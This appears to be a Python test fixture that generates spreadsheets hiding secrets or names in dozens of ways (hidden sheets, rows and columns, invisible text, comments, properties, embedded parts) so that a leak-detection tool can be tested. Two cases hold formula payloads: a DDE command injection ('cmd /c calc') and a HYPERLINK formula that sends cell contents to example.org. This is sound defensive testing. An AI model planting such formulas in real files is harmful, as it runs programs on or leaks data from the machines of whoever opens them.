"""Spreadsheets that hide something, each in its own way."""

import io
from collections.abc import Callable

from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.bundle.corpora.pdf_leaks import Leak
from tests.bundle.corpora.people import Made
from tests.bundle.corpora.word_leaks import OTHER_TYPE, with_part

Change = Callable[[Workbook, Made], object]


def sheet(made: Made, change: Change = lambda _book, _made: None) -> bytes:
    """Return a spreadsheet with marks that anybody may read, after a change."""
    book, out = Workbook(), io.BytesIO()
    book.properties.creator = book.properties.lastModifiedBy = None
    first = book.active
    first.title = "Marks"
    first.append(["Day", "Lesson", "Mark"])
    for number, line in enumerate(made.lines(9)):
        first.append([f"{number + 1} November", line, made.chance.randint(1, 9)])
    change(book, made)
    book.save(out)
    return out.getvalue()


def _hidden(state: str) -> Change:
    def change(book: Workbook, made: Made) -> None:
        second = book.create_sheet("Second")
        second.append([made.secret])
        second.sheet_state = state

    return change


def _hidden_row(book: Workbook, made: Made) -> None:
    book["Marks"]["B3"] = made.secret
    book["Marks"].row_dimensions[3].hidden = True


def _low_row(book: Workbook, made: Made) -> None:
    book["Marks"]["B3"] = made.secret
    book["Marks"].row_dimensions[3].height = 0.5


def _hidden_column(book: Workbook, made: Made) -> None:
    book["Marks"]["E2"] = made.secret
    book["Marks"].column_dimensions["E"].hidden = True


def _narrow_column(book: Workbook, made: Made) -> None:
    book["Marks"]["E2"] = made.secret
    book["Marks"].column_dimensions["E"].width = 0.1


def _cell(font: Font | None = None, fill: str = "", shown: str = "") -> Change:
    def change(book: Workbook, made: Made) -> None:
        cell = book["Marks"]["F4"]
        cell.value = made.secret
        cell.font = font or Font()
        if fill:
            cell.fill = PatternFill("solid", fgColor=fill)
        if shown:
            cell.number_format = shown

    return change


def _far(book: Workbook, made: Made) -> None:
    book["Marks"].cell(90_000, 200, made.secret)


def _comment(book: Workbook, made: Made) -> None:
    book["Marks"]["A2"].comment = Comment(made.secret, "Office")


def _defined(book: Workbook, made: Made) -> None:
    book.defined_names["Pupil"] = DefinedName("Pupil", attr_text=f'"{made.other}"')


def _hidden_name(book: Workbook, _made: Made) -> None:
    book.defined_names["Kept"] = DefinedName("Kept", attr_text="Marks!$A$1", hidden=True)


def _printed(book: Workbook, made: Made) -> None:
    book["Marks"].oddFooter.left.text = f"File of {made.other}"


def _choices(book: Workbook, made: Made) -> None:
    rule = DataValidation(type="list", formula1=f'"{made.own},{made.other}"')
    rule.add("C2")
    book["Marks"].add_data_validation(rule)


def _hint(book: Workbook, made: Made) -> None:
    rule = DataValidation(type="whole", prompt=made.secret, promptTitle="Note")
    rule.add("C2")
    book["Marks"].add_data_validation(rule)


def _formula(book: Workbook, made: Made) -> None:
    book["Marks"]["F4"] = f'=IF(FALSE,"{made.other}","")'


def _out(formula: str) -> Change:
    return lambda book, _made: setattr(book["Marks"]["F4"], "value", formula)


def _link(book: Workbook, made: Made) -> None:
    cell = book["Marks"]["F4"]
    cell.value = "see"
    cell.hyperlink = f"mailto:{made.other.replace(' ', '.').lower()}@example.org"


def _title(book: Workbook, made: Made) -> None:
    book.create_sheet(made.other).append(["nothing"])


def _grouped(book: Workbook, made: Made) -> None:
    book["Marks"]["B4"] = made.secret
    book["Marks"].row_dimensions.group(4, 5, hidden=True)


def _filtered(book: Workbook, made: Made) -> None:
    book["Marks"]["B4"] = made.secret
    book["Marks"].auto_filter.ref = "A1:C9"
    book["Marks"].auto_filter.add_filter_column(1, [made.own])
    book["Marks"].row_dimensions[4].hidden = True


def _property(name: str) -> Change:
    return lambda book, made: setattr(book.properties, name, made.other)


def _part(name: str, content: str, kind: str = "application/xml", target: str = "") -> Leak:
    def leak(made: Made) -> bytes:
        return with_part(
            sheet(made), name, content.replace("NAME", made.other).encode(), kind, target
        )

    return leak


def _changed(change: Change) -> Leak:
    return lambda made: sheet(made, change)


_STRINGS = "<sst><si><t>NAME</t></si></sst>"

SHEETS: dict[str, tuple[Leak, str]] = {
    "hidden sheet": (_changed(_hidden("hidden")), "sheet is hidden"),
    "very hidden sheet": (_changed(_hidden("veryHidden")), "sheet is hidden"),
    "hidden row": (_changed(_hidden_row), "Rows are hidden"),
    "row too low": (_changed(_low_row), "Rows are hidden"),
    "filtered row": (_changed(_filtered), "Rows are hidden"),
    "folded group of rows": (_changed(_grouped), "Rows are hidden"),
    "hidden column": (_changed(_hidden_column), "Columns are hidden"),
    "column too narrow": (_changed(_narrow_column), "Columns are hidden"),
    "white words in a cell": (_changed(_cell(Font(color="FFFFFF"))), "aren't shown"),
    "black cell": (_changed(_cell(Font(color="000000"), fill="000000")), "aren't shown"),
    "black fill under usual words": (_changed(_cell(fill="FF000000")), "aren't shown"),
    "tiny words in a cell": (_changed(_cell(Font(size=1))), "aren't shown"),
    "format that shows nothing": (_changed(_cell(shown=";;;")), "aren't shown"),
    "cell far away": (_changed(_far), "far"),
    "comment in a cell": (_changed(_comment), "A comment can be opened"),
    "named value": (_changed(_defined), "It names"),
    "hidden name": (_changed(_hidden_name), "names for cells"),
    "name in a footer": (_changed(_printed), "It names"),
    "choices of a cell": (_changed(_choices), "It names"),
    "hint of a cell": (_changed(_hint), "It names"),
    "words in a formula": (_changed(_formula), "It names"),
    "name in a link of a cell": (_changed(_link), "It names"),
    "name of a sheet": (_changed(_title), "It names"),
    "author of a spreadsheet": (_changed(_property("creator")), "Its properties name"),
    "editor of a spreadsheet": (_changed(_property("lastModifiedBy")), "Its properties name"),
    "keywords of a spreadsheet": (_changed(_property("keywords")), "It names"),
    "pivot table's rows": (_part("xl/pivotCache/pivotCacheRecords1.xml", "<r>NAME</r>"), "pivot"),
    "link to another file": (_part("xl/externalLinks/externalLink1.xml", "<e>NAME</e>"), "links"),
    "file in a spreadsheet": (_part("xl/embeddings/book.bin", "NAME", OTHER_TYPE), "are in it"),
    "macros": (_part("xl/vbaProject.bin", "NAME", OTHER_TYPE), "macros"),
    "custom XML of a spreadsheet": (_part("customXml/item1.xml", "<p>NAME</p>"), "It names"),
    "own property of a spreadsheet": (_part("docProps/custom.xml", "<p>NAME</p>"), "It "),
    "threaded comment": (_part("xl/threadedComments/threadedComment1.xml", "<c>NAME</c>"), "It "),
    "text that nothing refers to": (
        _part("xl/other/notes.txt", "about NAME", "text/plain"), "No sheet"
    ),
    "part that nothing refers to": (_part("xl/other/a.xml", "<p>Zed Nix</p>"), "xl/other/a.xml"),
    "sheet that the book leaves out": (
        _part("xl/worksheets/sheet9.xml", "<p>Zed Nix</p>", target="worksheet"), "sheet9.xml"
    ),
    "link in a formula": (_changed(_out('=HYPERLINK("http://example.org/?"&A2,"x")')), "leads out"),
    "program in a formula": (_changed(_out("=cmd|'/c calc'!A0")), "leads out"),
    "words of a drawing": (_part("xl/drawings/drawing9.xml", "<t>NAME</t>"), "It names"),
    "values of a chart": (_part("xl/charts/chart9.xml", "<v>NAME</v>"), "It names"),
    "words that no cell has": (_part("xl/sharedStrings.xml", _STRINGS), "It"),
}  # fmt: skip
"""Each way of hiding something in a spreadsheet, with words of the finding that must tell it."""
